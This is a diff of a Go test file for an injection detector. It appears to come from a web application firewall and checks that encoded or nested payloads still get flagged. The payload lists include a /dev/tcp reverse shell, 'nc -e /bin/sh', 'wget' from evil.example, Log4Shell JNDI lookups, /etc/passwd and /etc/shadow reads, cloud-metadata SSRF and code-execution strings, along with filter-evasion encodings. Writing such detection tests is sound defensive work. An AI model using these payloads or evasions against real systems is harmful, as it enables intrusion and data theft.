@@ -1,10 +1,14 @@
 package injection
 
 import (
+	"bufio"
+	"compress/gzip"
 	"encoding/base64"
+	"encoding/json"
 	"fmt"
 	"math/rand/v2"
 	"net/url"
+	"os"
 	"slices"
 	"strings"
 	"testing"
@@ -25,21 +29,25 @@ var plainPayloads = map[Class][]string{
 	Command: {
 		"; cat /etc/passwd", "| whoami", "$(cat /etc/passwd)", "`id`", "&& wget http://evil.example/x.sh", "127.0.0.1; ls -la /", "a || ping -c 3 192.0.2.1", "; bash -i >& /dev/tcp/192.0.2.1/443 0>&1", "| nc -e /bin/sh 192.0.2.1 443", "& ping -n 5 127.0.0.1 &",
 	},
-	Traversal: {"../../../etc/passwd", "../../../../windows/win.ini", "..\\..\\..\\boot.ini", "/var/www/../../etc/shadow", "images/../../../app/config.yml", "../../secret.txt"},
-	Inclusion: {"/etc/passwd", "php://filter/convert.base64-encode/resource=index.php", "file:///etc/passwd", "expect://id", "/proc/self/environ", "phar://upload.jpg/x", "c:\\boot.ini"},
-	SSRF:      {"http://169.254.169.254/latest/meta-data/", "http://localhost:8080/admin", "http://127.0.0.1/server-status", "gopher://127.0.0.1:6379/_info", "http://2130706433/", "http://0x7f000001/", "http://[::1]/", "dict://192.0.2.1:11211/stat"},
-	Template:  {"{{7*7}}", "${7*7}", "<%= 7*7 %>", "{{config.items()}}", "{{''.__class__.__mro__[1].__subclasses__()}}", "#{7*7}", "${T(java.lang.Runtime).getRuntime().exec('id')}", "{{request.application.__globals__}}"},
-	SSI:       {"<!--#exec cmd=\"id\"-->", "<!--#include virtual=\"/etc/passwd\"-->", "<esi:include src=\"http://evil.example/x\"/>"},
-	NoSQL:     {"{\"username\":{\"$ne\":null},\"password\":{\"$ne\":null}}", "'; return true; var x='a", "{\"$where\":\"sleep(5000)\"}", "' && this.password.match(/.*/)//", "', $where: '1 == 1'", "{\"password\":{\"$gt\":\"\"}}"},
-	LDAP:      {"*)(uid=*))(|(uid=*", "admin)(objectClass=*)", "x)(&(cn=admin", "*)(|(mail=*"},
-	XPath:     {"' or count(/child::node())=1 or 'a'='b", "'] | //user/*[contains(*,'", "x' or position()=1 or 'y'='"},
-	XXE:       {"<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ELEMENT r ANY>]>", "<foo xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"file:///etc/passwd\"/></foo>"},
-	Mail:      {"a@example.com\r\nRCPT TO:<b@example.com>", "x\r\nEHLO evil.example", "a\r\nMAIL FROM:<a@example.com>", "x\r\na001 EXAMINE INBOX"},
-	CRLF:      {"/\r\nSet-Cookie: a=b", "x\r\nLocation: http://evil.example/", "a\nX-Forwarded-Host: evil.example", "x\r\n\r\nHTTP/1.1 200 OK"},
-	Log4Shell: {"${jndi:ldap://evil.example/a}", "${jndi:rmi://evil.example/a}", "${jndi:dns://evil.example/a}", "${${lower:j}ndi:${lower:l}dap://evil.example/a}"},
-	PHP:       {"<?php system('id'); ?>", "phpinfo()", "base64_decode('aWQ=')", "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}", "$_GET['cmd']($_GET['x'])", "eval($_POST['x'])", "call_user_func('system','id')"},
-	Java:      {"class.module.classLoader.resources.context", "java.lang.Runtime.getRuntime().exec('id')", "#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS", "new java.lang.ProcessBuilder('id').start()"},
-	Code:      {"require('child_process').exec('id')", "__import__('os').system('id')", "process.mainModule.require('fs')", "{\"__proto__\":{\"admin\":true}}", "subprocess.check_output('id')"},
+	Traversal:    {"../../../etc/passwd", "../../../../windows/win.ini", "..\\..\\..\\boot.ini", "/var/www/../../etc/shadow", "images/../../../app/config.yml", "../../secret.txt"},
+	Inclusion:    {"/etc/passwd", "php://filter/convert.base64-encode/resource=index.php", "file:///etc/passwd", "expect://id", "/proc/self/environ", "phar://upload.jpg/x", "c:\\boot.ini"},
+	SSRF:         {"http://169.254.169.254/latest/meta-data/", "http://localhost:8080/admin", "http://127.0.0.1/server-status", "gopher://127.0.0.1:6379/_info", "http://2130706433/", "http://0x7f000001/", "http://[::1]/", "dict://192.0.2.1:11211/stat"},
+	Template:     {"{{7*7}}", "${7*7}", "<%= 7*7 %>", "{{config.items()}}", "{{''.__class__.__mro__[1].__subclasses__()}}", "#{7*7}", "${T(java.lang.Runtime).getRuntime().exec('id')}", "{{request.application.__globals__}}"},
+	SSI:          {"<!--#exec cmd=\"id\"-->", "<!--#include virtual=\"/etc/passwd\"-->", "<esi:include src=\"http://evil.example/x\"/>"},
+	NoSQL:        {"{\"username\":{\"$ne\":null},\"password\":{\"$ne\":null}}", "'; return true; var x='a", "{\"$where\":\"sleep(5000)\"}", "' && this.password.match(/.*/)//", "', $where: '1 == 1'", "{\"password\":{\"$gt\":\"\"}}"},
+	LDAP:         {"*)(uid=*))(|(uid=*", "admin)(objectClass=*)", "x)(&(cn=admin", "*)(|(mail=*"},
+	XPath:        {"' or count(/child::node())=1 or 'a'='b", "'] | //user/*[contains(*,'", "x' or position()=1 or 'y'='"},
+	XXE:          {"<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ELEMENT r ANY>]>", "<foo xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"file:///etc/passwd\"/></foo>"},
+	Mail:         {"a@example.com\r\nRCPT TO:<b@example.com>", "x\r\nEHLO evil.example", "a\r\nMAIL FROM:<a@example.com>", "x\r\na001 EXAMINE INBOX"},
+	CRLF:         {"/\r\nSet-Cookie: a=b", "x\r\nLocation: http://evil.example/", "a\nX-Forwarded-Host: evil.example", "x\r\n\r\nHTTP/1.1 200 OK"},
+	Log4Shell:    {"${jndi:ldap://evil.example/a}", "${jndi:rmi://evil.example/a}", "${jndi:dns://evil.example/a}", "${${lower:j}ndi:${lower:l}dap://evil.example/a}"},
+	PHP:          {"<?php system('id'); ?>", "phpinfo()", "base64_decode('aWQ=')", "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}", "$_GET['cmd']($_GET['x'])", "eval($_POST['x'])", "call_user_func('system','id')"},
+	Java:         {"class.module.classLoader.resources.context", "java.lang.Runtime.getRuntime().exec('id')", "#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS", "new java.lang.ProcessBuilder('id').start()"},
+	Code:         {"require('child_process').exec('id')", "__import__('os').system('id')", "process.mainModule.require('fs')", "{\"__proto__\":{\"admin\":true}}", "subprocess.check_output('id')"},
+	Shellshock:   {"() { :; }; echo x", "() { :;};/bin/bash -c id", "() { ignored; }; /bin/cat /etc/passwd"},
+	OpenRedirect: {"//evil.example", "/\\\\evil.example", "https:evil.example", "///evil.example/%2f..", "https://api.example.com@evil.example/", "/redirect?next=//evil.example"},
+	Probe:        {"')", "|", "))", "';"},
+	GraphQL:      {"{__schema{types{name}}}", "query IntrospectionQuery{__schema{queryType{name}}}", "{__type(name:\"User\"){fields{name}}}"},
 }
 
 // disguises are what a server, a proxy, a template or a browser undoes again.
@@ -87,7 +95,15 @@ var tricks = []trick{
 		return each(r, url.QueryEscape(s), func(c byte) bool { return letter(c) && false }, func(c byte) string { return string(c) })
 	}},
 	{"%u", nil, func(r *rand.Rand, s string) string {
-		return each(r, s, func(byte) bool { return true }, func(c byte) string { return fmt.Sprintf("%%u%04x", c) })
+		var b strings.Builder
+		for i := range len(s) {
+			if r.IntN(3) > 0 {
+				fmt.Fprintf(&b, "%%u%04x", s[i])
+			} else {
+				b.WriteString(url.QueryEscape(s[i : i+1]))
+			}
+		}
+		return b.String()
 	}},
 	{"case", insensitive, func(r *rand.Rand, s string) string { return url.QueryEscape(anyCase(r, s)) }},
 	{"in JSON", []Class{SQLi, XSS, Command, Traversal, Inclusion, SSRF, Template, SSI, Log4Shell, PHP, Java, XXE}, func(_ *rand.Rand, s string) string {
@@ -98,6 +114,22 @@ var tricks = []trick{
 	}},
 	{"base64", []Class{SQLi, XSS, Command, Traversal, Template, SSI, Log4Shell, PHP, XXE}, func(_ *rand.Rand, s string) string {
 		return url.QueryEscape(base64.StdEncoding.EncodeToString([]byte(s + "          "[:max(0, 12-len(s))])))
+	}},
+	{"base64 for addresses", []Class{SQLi, XSS, Command, Traversal, Template, SSI, Log4Shell, PHP, XXE, Java, Code, NoSQL}, func(_ *rand.Rand, s string) string {
+		return base64.RawURLEncoding.EncodeToString([]byte(s + "          "[:max(0, 12-len(s))]))
+	}},
+	{"percent in base64", []Class{SQLi, XSS, Command, Template, Log4Shell, PHP, XXE}, func(_ *rand.Rand, s string) string {
+		return base64.RawURLEncoding.EncodeToString([]byte(percents(s)))
+	}},
+	{"JSON in JSON", []Class{SQLi, XSS, Command, Traversal, Inclusion, Template, SSI, Log4Shell, PHP}, func(_ *rand.Rand, s string) string {
+		escape := strings.NewReplacer(`\\`, `\\\\`, `"`, `\"`).Replace
+		return url.QueryEscape(`{"a":"` + escape(`{"b":"`+escape(s)+`"}`) + `"}`)
+	}},
+	{"base64 in JSON", []Class{SQLi, XSS, Command, Traversal, Template, Log4Shell, PHP}, func(_ *rand.Rand, s string) string {
+		return url.QueryEscape(`{"a":1,"b":"` + base64.StdEncoding.EncodeToString([]byte(s+"          "[:max(0, 12-len(s))])) + `"}`)
+	}},
+	{"percent in JSON", []Class{SQLi, XSS, Command, Traversal, Template, Log4Shell, PHP}, func(_ *rand.Rand, s string) string {
+		return url.QueryEscape(`{"a":1,"b":"` + percents(s) + `"}`)
 	}},
 	{"entities", []Class{XSS, XXE, SSI}, func(r *rand.Rand, s string) string {
 		return url.QueryEscape(each(r, s, func(c byte) bool { return true }, func(c byte) string { return fmt.Sprintf("&#x%x;", c) }))
@@ -150,33 +182,36 @@ var tricks = []trick{
 }
 
 // TestEvasion: of payloads that are found plain, at least 95 of a hundred stay
-// found in each class when they are disguised in ways that a server undoes.
+// found, as the same class, when they are disguised in ways that a server undoes.
 func TestEvasion(t *testing.T) {
 	a := New()
 	r := rand.New(rand.NewPCG(1, 2))
 	for c := range Classes {
 		list := plainPayloads[c]
+		if len(list) == 0 && c != Fixation && c != Encoding {
+			t.Errorf("%s: has no payloads", c) // those two are made of what disguises others, or of where a link stands
+		}
 		n, found := 0, 0
 		var missed []string
 		for _, p := range list {
-			if set := a.Analyze(&Request{Path: "/api", Query: "q=" + url.QueryEscape(p)}); set == 0 {
-				t.Errorf("%s: %q is not found plain", c, p)
+			if set := a.Analyze(&Request{Path: "/api", Query: "q=" + url.QueryEscape(p)}); !set.Has(c) {
+				t.Errorf("%s: %q is found plain as %v", c, p, set.Append(nil))
 				continue
 			}
 			for _, x := range tricks {
 				if x.of != nil && !contains(x.of, c) {
 					continue
 				}
-				if x.name == "padding" && (c == SSRF || c == Inclusion || c == Traversal || c == Java || c == NoSQL) {
+				if x.name == "padding" && (c == SSRF || c == Inclusion || c == Traversal || c == Java || c == NoSQL || c == OpenRedirect || c == Probe) {
 					continue // these are something only at the start of a value
 				}
 				for range 3 {
 					n++
 					q := "page=2&q=" + x.do(r, p)
-					if a.Analyze(&Request{Path: "/api", Query: q}) != 0 {
+					if set := a.Analyze(&Request{Path: "/api", Query: q}); set.Has(c) {
 						found++
 					} else {
-						missed = append(missed, x.name+": "+p)
+						missed = append(missed, fmt.Sprintf("%s: %s, as %v", x.name, p, set.Append(nil)))
 					}
 				}
 			}
@@ -184,9 +219,90 @@ func TestEvasion(t *testing.T) {
 		if n == 0 {
 			continue
 		}
+		if len(missed) > 0 {
+			t.Logf("%s: missed are %q", c, slices.Compact(missed))
+		}
 		t.Logf("%-10s %5d disguised, %5.1f %% found", c, n, 100*float64(found)/float64(n))
 		if found*100 < n*95 {
-			t.Errorf("%s: %d of %d stay found; missed are %q", c, found, n, missed[:min(len(missed), 30)])
+			t.Errorf("%s: %d of %d stay found; missed are %q", c, found, n, slices.Compact(missed))
+		}
+	}
+}
+
+// TestEvasionCorpus does the same with labelled payloads that others wrote: up to
+// 200 of each class that are found plain as that class.
+func TestEvasionCorpus(t *testing.T) {
+	if testing.Short() {
+		t.Skip("takes seconds")
+	}
+	f, err := os.Open(corpus())
+	if err != nil {
+		t.Skip("the labelled requests are not here: ", err)
+	}
+	defer func() { _ = f.Close() }()
+	z, err := gzip.NewReader(f)
+	if err != nil {
+		t.Fatal(err)
+	}
+	a := New()
+	payloads := map[Class][]string{}
+	sc := bufio.NewScanner(z)
+	sc.Buffer(nil, 1<<20)
+	for sc.Scan() {
+		var r struct{ Class, Label, URI, Quality string }
+		if err := json.Unmarshal(sc.Bytes(), &r); err != nil {
+			t.Fatal(err)
+		}
+		c, ok := Lookup(r.Class)
+		switch r.Class {
+		case "open-redirect":
+			c, ok = OpenRedirect, true
+		case "rfi":
+			c, ok = Inclusion, true
+		}
+		_, value, found := strings.Cut(r.URI, "?q=")
+		if r.Label != "attack" || r.Quality != "" || !ok || !found || strings.Contains(value, "&") {
+			continue
+		}
+		p, err := url.QueryUnescape(value)
+		// What is encoded already is disguised already; what is long is several payloads.
+		if err != nil || len(p) > 120 || strings.ContainsAny(p, "%\\\x00") || strings.IndexFunc(p, func(r rune) bool { return r > '~' }) >= 0 {
+			continue
+		}
+		if a.Analyze(&Request{Path: "/api", Query: "q=" + url.QueryEscape(p)}).Has(c) {
+			payloads[c] = append(payloads[c], p)
+		}
+	}
+	if len(payloads) < 12 {
+		t.Fatalf("payloads of %d classes", len(payloads))
+	}
+	r := rand.New(rand.NewPCG(3, 4))
+	for c := range Classes {
+		list := payloads[c]
+		if len(list) == 0 {
+			continue
+		}
+		r.Shuffle(len(list), func(i, j int) { list[i], list[j] = list[j], list[i] })
+		n, lost := 0, map[string][]string{}
+		for _, p := range list[:min(len(list), 200)] {
+			for _, x := range tricks {
+				if x.of != nil && !contains(x.of, c) || x.name == "padding" || x.name == "IFS" && len(p) < 2 {
+					continue
+				}
+				n++
+				if !a.Analyze(&Request{Path: "/api", Query: "page=2&q=" + x.do(r, p)}).Has(c) {
+					lost[x.name] = append(lost[x.name], p)
+				}
+			}
+		}
+		missed := 0
+		for name, list := range lost {
+			missed += len(list)
+			t.Logf("%s: %s: %d missed, as %q", c, name, len(list), list[:min(len(list), 6)])
+		}
+		t.Logf("%-14s %4d payloads, %6d disguised, %5.1f %% found", c, min(len(list), 200), n, 100*float64(n-missed)/float64(n))
+		if missed*20 > n {
+			t.Errorf("%s: %d of %d are lost", c, missed, n)
 		}
 	}
 }
